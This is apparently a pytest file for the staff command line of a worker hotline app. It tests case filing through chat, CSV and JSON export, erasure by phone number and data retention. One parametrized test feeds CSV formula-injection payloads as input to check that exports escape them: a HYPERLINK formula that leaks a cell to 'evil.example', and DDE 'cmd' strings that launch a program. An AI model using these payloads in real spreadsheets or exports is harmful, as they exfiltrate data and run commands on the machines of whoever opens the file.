"""The staff's command line: chat with the bot, read cases."""

from __future__ import annotations

import csv
import io
import json

import pytest
from click.testing import CliRunner

from hotline.cli import main
from hotline.config import env_name


@pytest.fixture
def env(overrides):  # type: ignore[no-untyped-def]
    return {env_name(k): str(v) for k, v in overrides.items()}


def test_chat_files_a_callback_request_that_cases_list_and_export_show(env) -> None:  # type: ignore[no-untyped-def]
    runner = CliRunner()
    chatted = runner.invoke(main, ["chat", "--lang", "en"], input="3\n2\n", env=env)
    assert chatted.exit_code == 0, chatted.output
    # no organizer in this deployment: the worker is told so, with the number
    assert "Main menu" in chatted.output and "your number is" in chatted.output
    ref = chatted.output.split("your number is ")[1].split(".")[0]

    listed = runner.invoke(main, ["cases", "list"], env=env)
    assert listed.exit_code == 0 and ref in listed.output and "callback" in listed.output

    as_json = runner.invoke(main, ["cases", "export", "--format", "json"], env=env)
    (case,) = json.loads(as_json.output)
    assert case["ref"] == ref and case["contact"] == "+12135550100"
    assert case["contact_method"] == "call"

    as_csv = runner.invoke(main, ["cases", "export", "--format", "csv"], env=env)
    (row,) = list(csv.DictReader(io.StringIO(as_csv.output)))
    assert row["ref"] == ref


def test_chat_shows_the_cost_of_each_reply(env) -> None:  # type: ignore[no-untyped-def]
    result = CliRunner().invoke(main, ["chat"], input="hi\n", env=env)
    assert "[GSM-7, 1 SMS]" in result.output or "[UCS-2," in result.output


def test_staff_can_erase_a_worker_by_phone(env) -> None:  # type: ignore[no-untyped-def]
    runner = CliRunner()
    runner.invoke(main, ["chat", "--lang", "es", "--sender", "+13105550123"], input="3\n1\n",
                  env=env)
    erased = runner.invoke(main, ["erase", "--phone", "(310) 555-0123", "--yes"], env=env)
    assert erased.exit_code == 0, erased.output
    assert "1 case(s)" in erased.output
    exported = json.loads(runner.invoke(main, ["cases", "export", "--format", "json"],
                                        env=env).output)
    assert exported[0]["contact"] is None and exported[0]["kind"] == "callback"


def test_a_bad_phone_number_is_refused_clearly(env) -> None:  # type: ignore[no-untyped-def]
    result = CliRunner().invoke(main, ["erase", "--phone", "banana", "--yes"], env=env)
    assert result.exit_code != 0 and "not a phone number" in result.output


def test_retention_strips_only_old_cases(env, settings) -> None:  # type: ignore[no-untyped-def]
    from datetime import UTC, datetime, timedelta

    from hotline.crypto import Crypto
    from hotline.dialogue.effects import CaseKind, FileCase
    from hotline.store.cases import CaseStore
    from hotline.store.db import make_engine

    store = CaseStore(make_engine(settings.sqlalchemy_url),
                      Crypto(settings.secret_key, settings.encryption_keys))
    case = FileCase(kind=CaseKind.CALLBACK, locale="en", channel="sms", sender="+12135550100",
                    contact_method="call", contact_number="+12135550100")
    old_id, _ = store.file(case, now=datetime.now(UTC) - timedelta(days=400))
    new_id, _ = store.file(case)
    result = CliRunner().invoke(main, ["retention"], env=env)
    assert "1 case(s)" in result.output
    assert store.get(old_id).contact is None  # type: ignore[union-attr]
    assert store.get(new_id).contact == "+12135550100"  # type: ignore[union-attr]
    store.engine.dispose()


@pytest.mark.parametrize("typed", [
    '=HYPERLINK("http://evil.example/?d="&A1,"Taqueria Sol")', "+1+cmd|' /C calc'!A0",
    "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1",
])
def test_a_csv_export_never_hands_a_spreadsheet_a_formula(env, settings, typed: str) -> None:  # type: ignore[no-untyped-def]
    from hotline.crypto import Crypto
    from hotline.dialogue.effects import CaseKind, FileCase
    from hotline.store.cases import CaseStore
    from hotline.store.db import make_engine

    store = CaseStore(make_engine(settings.sqlalchemy_url),
                      Crypto(settings.secret_key, settings.encryption_keys))
    store.file(FileCase(kind=CaseKind.REPORT, locale="es", channel="sms", sender="+12135550100",
                        contact_method="text", employer=typed, location="Vermont & 3rd",
                        details=(typed,), name="Ana"))
    store.engine.dispose()
    exported = CliRunner().invoke(main, ["cases", "export", "--format", "csv"], env=env)
    (row,) = list(csv.DictReader(io.StringIO(exported.output)))
    assert row["employer"] == "'" + typed and row["details"] == "'" + typed
    assert row["location"] == "Vermont & 3rd" and row["name"] == "Ana"  # the rest as typed
    (case,) = json.loads(CliRunner().invoke(main, ["cases", "export", "--format", "json"],
                                            env=env).output)
    assert case["employer"] == typed  # JSON is no spreadsheet: exactly what was typed
